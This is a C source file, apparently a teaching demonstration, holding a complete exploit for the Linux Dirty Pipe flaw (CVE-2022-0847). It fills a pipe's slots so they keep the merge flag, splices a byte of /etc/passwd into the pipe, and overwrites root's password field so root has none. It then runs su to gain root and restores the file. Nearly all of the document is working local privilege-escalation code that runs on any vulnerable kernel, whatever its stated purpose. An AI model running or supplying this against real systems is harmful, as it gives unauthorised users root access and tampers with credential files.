// SPDX-License-Identifier: MIT
/*
 * dirty-pipe - shows CVE-2022-0847 on the teaching kernel, and nothing else
 *
 * An ordinary user may read /etc/passwd but not write it. This program writes
 * it all the same, through a pipe, takes the password off root, becomes root
 * with su, and puts the file back.
 *
 * The hole: a slot of a pipe's ring keeps its flags when the kernel reuses it
 * for a page of a file. If an earlier write() left PIPE_BUF_FLAG_CAN_MERGE in
 * the slot, the next write() is merged into that page, and that page is the
 * kernel's one cached copy of the file.
 *
 * Exit status: 0 an ordinary user became root; 1 the kernel refused, nothing
 * was changed; 2 this system is not set up for the demonstration.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#define FILE_NAME "/etc/passwd"

/*
 * The six bytes at offset 5 of "root:x:0:0:root:..." and what they become.
 * "x" says that the password is in /etc/shadow; an empty field says that
 * there is none. The x moves into the next free-text field, so that the line
 * keeps its length: the hole can change bytes, but not make a file longer.
 */
#define START "root:x:0:0:"
#define OFFSET 5
#define LOCKED "x:0:0:"
#define OPENED ":0:0:x"
#define LENGTH 6

static void say(const char *format, ...)
{
	va_list arguments;

	va_start(arguments, format);
	vprintf(format, arguments);
	va_end(arguments);
	putchar('\n');
	fflush(stdout);
}

static int unfit(const char *what)
{
	say("RESULT: cannot tell: %s%s%s", what, errno ? ": " : "",
	    errno ? strerror(errno) : "");
	return 2;
}

/* Reads the bytes of the file that this program is about. */
static int read_entry(int file, char *entry)
{
	ssize_t count = pread(file, entry, LENGTH, OFFSET);

	entry[LENGTH] = '\0';
	return count == LENGTH ? 0 : -1;
}

/*
 * Fills every slot of a new pipe by write() and empties it again. The slots
 * are free afterwards, but each still carries PIPE_BUF_FLAG_CAN_MERGE.
 */
static int used_pipe(int ends[2])
{
	static char page[4096];
	int left, size;

	if (pipe(ends) < 0)
		return -1;
	size = fcntl(ends[1], F_GETPIPE_SZ);
	if (size < 0)
		return -1;
	for (left = size; left > 0; left -= sizeof(page))
		if (write(ends[1], page, sizeof(page)) != sizeof(page))
			return -1;
	for (left = size; left > 0; left -= sizeof(page))
		if (read(ends[0], page, sizeof(page)) != sizeof(page))
			return -1;
	return size / (int)sizeof(page);
}

/*
 * Tries to put bytes into the file at OFFSET, with a descriptor that is open
 * for reading only. Returns the number of the pipe's slots, or -1 if a step
 * was not possible at all. Whether the file changed, only the file can tell.
 */
static int write_through_pipe(int file, const char *bytes)
{
	loff_t before = OFFSET - 1;
	int ends[2], slots;

	slots = used_pipe(ends);
	if (slots < 0)
		return -1;
	/*
	 * One byte of the file goes into the pipe. It is not copied: the slot
	 * points at the page of the page cache, and ends where OFFSET begins.
	 */
	if (splice(file, &before, ends[1], NULL, 1, 0) != 1)
		return -1;
	/* Goes into a page of its own, unless the slot says "merge". */
	if (write(ends[1], bytes, LENGTH) != LENGTH)
		return -1;
	close(ends[0]);
	close(ends[1]);
	return slots;
}

/* Runs "su -c id" without a terminal; returns 0 if it ran as root. */
static int become_root(char *answer, size_t size)
{
	int ends[2], status;
	size_t have = 0;
	ssize_t count;
	pid_t child;

	if (pipe(ends) < 0)
		return -1;
	child = fork();
	if (child < 0)
		return -1;
	if (child == 0) {
		int null = open("/dev/null", O_RDWR);

		if (null < 0 || dup2(null, 0) < 0 || dup2(ends[1], 1) < 0 ||
		    dup2(null, 2) < 0)
			_exit(126);
		close(ends[0]);
		execlp("su", "su", "root", "-c", "id", (char *)NULL);
		_exit(127);
	}
	close(ends[1]);
	while (have < size - 1) {
		count = read(ends[0], answer + have, size - 1 - have);
		if (count <= 0)
			break;
		have += count;
	}
	close(ends[0]);
	while (have && answer[have - 1] == '\n')
		have--;
	answer[have] = '\0';
	if (waitpid(child, &status, 0) != child)
		return -1;
	/* busybox does not name a user without a password: no "(root)" after 0 */
	return WIFEXITED(status) && WEXITSTATUS(status) == 0 &&
	       strncmp(answer, "uid=0", 5) == 0 &&
	       !(answer[5] >= '0' && answer[5] <= '9') ? 0 : -1;
}

int main(void)
{
	char start[sizeof(START)] = "", entry[LENGTH + 1], answer[200];
	int file, slots, root;

	if (geteuid() == 0) {
		errno = 0;
		return unfit("root may write the file anyway; run this as student");
	}
	say("1. I am user %d.", (int)geteuid());

	file = open(FILE_NAME, O_WRONLY);
	if (file >= 0) {
		errno = 0;
		return unfit(FILE_NAME " is writable for everybody");
	}
	say("2. open(\"%s\", O_WRONLY): %s.", FILE_NAME, strerror(errno));

	file = open(FILE_NAME, O_RDONLY | O_CLOEXEC);
	if (file < 0)
		return unfit(FILE_NAME);
	errno = 0;
	if (pread(file, start, sizeof(START) - 1, 0) != sizeof(START) - 1 ||
	    strcmp(start, START) != 0)
		return unfit(FILE_NAME " does not begin with \"" START "\"");
	say("3. %s begins with \"%s\".", FILE_NAME, start);

	slots = write_through_pipe(file, OPENED);
	if (slots < 0 || read_entry(file, entry) < 0)
		return unfit("the pipe");
	say("4. Filled and emptied the %d slots of a pipe, spliced one byte of the"
	    " file into it, wrote \"%s\" behind that byte.", slots, OPENED);

	if (strcmp(entry, LOCKED) == 0) {
		say("5. %s still begins with \"%s\".", FILE_NAME, start);
		say("RESULT: refused: user %d could not change the file.",
		    (int)geteuid());
		return 1;
	}
	if (pread(file, start, sizeof(START) - 1, 0) != sizeof(START) - 1)
		return unfit(FILE_NAME);
	say("5. %s now begins with \"%s\": root has no password.", FILE_NAME,
	    start);

	root = become_root(answer, sizeof(answer));
	say("6. su root -c id: %s", *answer ? answer : "(no answer)");

	/* Back the way it came: the kernel still does not check. */
	errno = 0;
	if (write_through_pipe(file, LOCKED) < 0 ||
	    read_entry(file, entry) < 0 || strcmp(entry, LOCKED) != 0)
		return unfit("could not put " FILE_NAME " back");
	say("7. Put the file back.");

	if (root < 0) {
		errno = 0;
		return unfit("the file was changed, but su did not give root"
			     " (is su set-user-ID root?)");
	}
	say("RESULT: root: user %d changed a file of root and became root.",
	    (int)geteuid());
	return 0;
}
